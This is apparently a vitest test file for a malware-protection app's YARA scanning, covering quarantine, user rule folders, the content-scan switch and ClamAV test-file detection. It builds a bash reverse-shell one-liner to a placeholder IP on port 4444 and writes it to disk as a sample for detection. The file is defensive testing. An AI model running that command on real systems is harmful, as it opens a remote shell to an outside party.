// YARA in the protection path, through the whole core: a file that matches one of Mamori's own rules is
// quarantined from a watched folder with the rule's own words; a user's rule folder is compiled in (a broken
// file in it is reported with its line, the rest still works); content scanning can be switched off.
import { copyFileSync, existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { createCore, type Core } from '../../../main/core/index.js';
import { helperSkipReason } from '../../helpers/native-helper.js';
import { tempDirs, waitFor } from '../../helpers/temp.js';

const BIN = join(process.cwd(), 'native-helpers', 'bin', 'mamori-yara');
const skip = helperSkipReason(BIN);
if (skip) console.warn(`[yara scanning] skipped: ${skip}`);
const dirs = tempDirs();
const cores: Core[] = [];
afterEach(async () => { for (const c of cores.splice(0)) await c.stop(); dirs.cleanup(); });

// Assembled here so this source file does not match the rule itself.
const reverseShell = ['#!/bin/sh\n', 'bash -i >', '& /dev/', 'tcp/192.0.2.7/4444 0>&1\n'].join('');

async function start() {
  const watched = dirs.make('mamori-watch-');
  const core = await createCore({ dataDir: dirs.make('mamori-data-'), watchFolders: [watched], host: 'test', log: () => undefined });
  cores.push(core);
  return { core, watched };
}

describe.skipIf(skip !== null)(`YARA scanning${skip ? ` (skipped: ${skip})` : ''}`, () => {
  it("quarantines a file matching Mamori's own rule, explained in the rule's words", async () => {
    const { core, watched } = await start();
    expect(await core.api.getYaraRules({})).toMatchObject({ state: 'running', filesFailed: 0, errors: [] });
    const path = join(watched, 'update.sh');
    writeFileSync(path, reverseShell, { mode: 0o755 });
    const alert = await waitFor('the alert', async () => (await core.api.listAlerts({})).items[0], 15_000);
    expect(alert).toMatchObject({
      severity: 'critical', ruleId: 'mamori.yara.mamori_reverse_shell_script', detection: { engine: 'yara', signature: 'mamori_reverse_shell_script' },
      file: { path }, actions: [{ kind: 'quarantine', status: 'succeeded' }],
    });
    expect(alert.text.ja.title).toBe('リバースシェルが見つかりました');
    expect(existsSync(path)).toBe(false);
  });

  it("compiles a user's rule folder in, reports a broken file with its line, and finds what the good rule describes", async () => {
    const { core, watched } = await start();
    const folder = dirs.make('mamori-user-rules-');
    mkdirSync(join(folder, 'sub'));
    writeFileSync(join(folder, 'office.yar'), 'rule office_invoice_dropper { meta: description = "fake invoice dropper" strings: $a = "INVOICE-DROPPER-7f3a" condition: $a }\n');
    writeFileSync(join(folder, 'sub', 'broken.yara'), 'rule ok_one { condition: true and }\n');
    await core.api.updateSettings({ yaraFolders: [folder] });
    const rules = await waitFor('the recompile', async () => {
      const r = await core.api.getYaraRules({});
      return r.folders.includes(folder) && r.filesFailed === 1 ? r : null;
    }, 15_000);
    expect(rules.errors).toEqual([expect.objectContaining({ file: expect.stringContaining('broken.yara'), line: 1 })]);
    writeFileSync(join(watched, 'invoice.pdf.exe'), 'xx INVOICE-DROPPER-7f3a xx');
    const alert = await waitFor('the alert', async () => (await core.api.listAlerts({})).items[0], 15_000);
    expect(alert).toMatchObject({ severity: 'high', detection: { engine: 'yara', signature: 'office_invoice_dropper' } });
    expect(alert.text.en.summary).toContain('fake invoice dropper');
  });

  it('leaves contents alone when content scanning is off (hashes still apply)', async () => {
    const { core, watched } = await start();
    await core.api.updateSettings({ contentScan: false, autoQuarantine: false });
    writeFileSync(join(watched, 'update.sh'), reverseShell);
    const { scan } = await core.api.startScan({ paths: [watched] });
    const done = await waitFor('scan end', async () => { const r = await core.api.getScan({ id: scan.id }); return r.scan.state !== 'running' ? r.scan : null; }, 15_000);
    expect(done).toMatchObject({ state: 'completed', filesScanned: 1, findings: 0 });
  });

  const TESTFILES = '/usr/share/clamav-testfiles';
  it.skipIf(!existsSync(TESTFILES))("finds ClamAV's test program inside at least 20 of the 44 clamav-testfiles with only its hash (skips without the package)", async () => {
    const { core } = await start();
    await core.api.updateSettings({ autoQuarantine: false });
    const folder = dirs.make('mamori-clam-');
    const names = readdirSync(TESTFILES);
    for (const n of names) copyFileSync(join(TESTFILES, n), join(folder, n));
    const { scan } = await core.api.startScan({ paths: [folder] });
    const done = await waitFor('scan end', async () => { const r = await core.api.getScan({ id: scan.id }); return r.scan.state !== 'running' ? r.scan : null; }, 60_000);
    const alerts = (await core.api.listAlerts({ limit: 200 })).items.filter((a) => a.scanId === scan.id);
    const found = new Set(alerts.map((a) => a.file!.path.slice(folder.length + 1)));
    console.log(`clamav-testfiles: ${found.size}/${names.length} found: ${[...found].sort().join(' ')}`);
    expect(done).toMatchObject({ state: 'completed', filesScanned: names.length });
    expect(found.size).toBeGreaterThanOrEqual(20);
    const zip = alerts.find((a) => a.file!.path.endsWith('/clam.zip'));
    expect(zip?.detection.signature).toBe('ClamAV test program clam.exe (inside clam.zip/clam.exe)');
  }, 90_000);
});
